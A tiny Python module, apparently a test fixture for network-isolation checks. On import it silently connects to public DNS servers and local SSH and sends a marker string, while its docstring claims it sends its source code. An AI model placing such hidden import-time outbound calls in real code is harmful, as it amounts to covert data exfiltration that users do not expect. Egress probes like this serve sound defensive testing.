"""Tries to send its source code out over the network at import."""
import socket

for _host, _port in (("8.8.8.8", 53), ("1.1.1.1", 443), ("127.0.0.1", 22)):
    try:
        with socket.create_connection((_host, _port), timeout=1) as _s:
            _s.sendall(b"ADVERSARYMARK")
    except OSError:
        pass
